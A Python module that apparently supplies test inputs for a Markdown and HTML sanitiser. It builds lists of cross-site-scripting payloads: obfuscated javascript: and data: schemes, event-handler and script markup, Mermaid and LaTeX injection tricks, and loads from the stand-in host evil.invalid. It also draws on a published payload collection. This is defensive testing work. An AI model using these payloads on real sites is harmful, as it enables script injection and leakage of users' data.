"""Texts that would run as scripts, send requests or lead elsewhere, if they were taken for more than text."""

from __future__ import annotations

import itertools

import brs_kb

_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java&#10;script:", "java&NewLine;script:", "&#106;avascript:",
    "&#x6A;avascript&colon;", "\\javascript:", "javascript\\:", "%6Aavascript:", " javascript:", "\u00a0javascript:",
    "vbscript:", "data:text/html,", "data:image/svg+xml,", "file:///", "blob:", "view-source:javascript:", "feed:javascript:",
    "ws://evil.invalid/", "//evil.invalid/", "\\\\evil.invalid\\", "/\\evil.invalid/", "https:evil.invalid/",
)  # fmt: skip
_FORMS = (
    "[a]({}ran(1))", "[a](<{}ran(2)>)", "[a]( {}ran(3) 'b')", "<{}ran(4)>", "[a][{}ran(5)]", "![a]({}ran(6))",
    "[![a]({}ran(7))]({}ran(8))", "{}ran(9)", "[a]: {}ran(10)\n\n[a]", "[`a`]({}ran`11`)", "*[a*]({}ran(12))",
    '[a](b "{}ran(13)")', "[a](b\n{}ran(14))",
)  # fmt: skip
_MARKUP = (
    "*<b onclick=ran(1)>*", "`<script>ran(2)</script>`", "&lt;script&gt;ran(3)&lt;/script&gt;", "<!--><script>ran(4)</script>",
    "</title><script>ran(5)</script>", "</textarea><svg/onload=ran(6)>", "]]><script>ran(7)</script>",
    "</script><script>ran(8)</script>", "{{ ran(9) }}", "{% raw %}<script>ran(10)</script>", "klzzwxh:0000", "wzxhzdk:0",
    "genai-link-0", '<a href="genai-link-0">x</a>',
    '<pre class=mermaid>graph TD; a-->b; click a href "javascript:ran(11)"</pre>',
    '"]; click n0 call ran(12)', "%%{init: {'securityLevel': 'loose'}}%%",
    "%%{init: {'themeCSS': '* {background: url(https://evil.invalid/x.png)}'}}%%",
    "https://example.org/%%{init:{'themeCSS':'*{background:url(https://evil.invalid/x.png)}'}}%%", "<img src=https://evil.invalid/x.png>",
    "<use href=https://evil.invalid/x.svg#a>", "url(https://evil.invalid/x.png)", "@import 'https://evil.invalid/x.css'",
    "<link rel=prefetch href=https://evil.invalid/>", "<base href=https://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>", "<form action=https://evil.invalid/><button>a</button></form>",
    "<iframe srcdoc='<script>ran(13)</script>'>", "<math><mi xlink:href='javascript:ran(14)'>a</mi></math>",
    '<noscript><p title="</noscript><img src=x onerror=ran(15)>">', "<template><script>ran(16)</script></template>",
    "<genai-table data-words='{}' data-controls=sort onclick=ran(17)>",
)  # fmt: skip
_EXTENDED = (
    r"$\href{{}ran(1)}{x}$", r"\(\url{{}ran(2)}\)", r"$\let\h=\href{https://example.org}\h{{}ran(3)}{x}$",
    r"$\mmlToken{mi}[href='{}ran(4)']{x}$", r"$\class{a}{\href{{}ran(5)}{x}}$", "==[a]({}ran(6))==", "^^[a]({}ran(7))^^",
    "~~[a]({}ran(8))~~", "H~[a]({}ran(9))~", "x^[a]({}ran(10))^", "[a](index.md){href={}ran(11)}", '*a*{: href="{}ran(12)" }',
    "[a]({}ran(13)){title=b}", ":smile:[:heart:]({}ran(14))", "[++ctrl+c++]({}ran(15))", "++ctrl+\"[a]({}ran(16))\"++",
    "`#!html <a href='{}ran(17)'>`", "- [a]({}ran(18))\n- *[a]({}ran(19))*", "[x](index.md){xlink:href={}ran(20)}",
    "[==a==]({}ran(21)){.b}", "<{}ran(22)>{title=a}",
)  # fmt: skip
"""Links in what extensions of Markdown add: formulas, marked words, keys, emoji, attribute lists, lists."""
_EXTENDED_MARKUP = (
    "*a*{onclick=ran(1)}", '*a*{: ONMOUSEOVER="ran(2)" }', "`a`{onload=ran(3)}",
    '**a**{style="background:url(//evil.invalid/)"}',
    "[a](index.md){ping=https://evil.invalid/}", "[a](index.md){formaction=javascript:ran(4)}", "*a*{srcdoc=x}",
    "a\n{: onclick=ran(5) }", "==a=={onclick=ran(6)}", "++ctrl+c++{onclick=ran(7)}", ":smile:{onclick=ran(8)}",
    "$x${onclick=ran(9)}", "$</script><script>ran(10)</script>$", "$<img src=x onerror=ran(11)>$", "$<!--$ <b> $-->$",
    r"$\style{background:url(https://evil.invalid/x.png)}{x}$", r"$\bbox[background:url(https://evil.invalid/x.png)]{x}$",
    r"$\includegraphics{https://evil.invalid/x.png}$", r"$\htmlStyle{background:url(https://evil.invalid/x.png)}{x}$",
    r"$\newcommand\h\href{https://example.org}\h{javascript:ran(12)}{x}$", r"$\unicode{<script>ran(13)</script>}$",
    "++\"<img src=x onerror=ran(14)>\"++", "++<script>++", "==<b onclick=ran(15)>==", "~<i onclick=ran(16)>~",
    "^<i onclick=ran(17)>^", ":<script>ran(18)</script>:", "`#!html <script>ran(19)</script>`", "`#!x<y onclick=z> a`",
    "a<br onclick=ran(20)>b", "a<br/>b<script>ran(21)</script>", "- <script>ran(22)</script>\n- *a*{onclick=ran(23)}",
)  # fmt: skip
"""Attributes, scripts and styles in the same."""


def published() -> list[str]:
    """A published collection, in order, each once."""
    return sorted({str(entry["payload"]) for entry in brs_kb.get_all_payloads().values()})


def own() -> list[str]:
    """What that collection, which is about HTML, does not have: Markdown's links in all forms, and our own markup."""
    links = [form.replace("{}", scheme) for scheme, form in itertools.product(_SCHEMES, _FORMS)]
    return [*links, *_MARKUP]


def some(count: int) -> list[str]:
    """So many, from all over both, and the same ones each time; our own markup is always among them."""
    everything = [*published(), *own()[: -len(_MARKUP)]]
    step = max(1, len(everything) // max(1, count - len(_MARKUP)))
    return [*_MARKUP, *everything[::step]][:count]


def extended() -> list[str]:
    """What extensions of Markdown add, with each scheme, and markup in it."""
    return [*_EXTENDED_MARKUP, *(form.replace("{}", scheme) for form, scheme in itertools.product(_EXTENDED, _SCHEMES))]
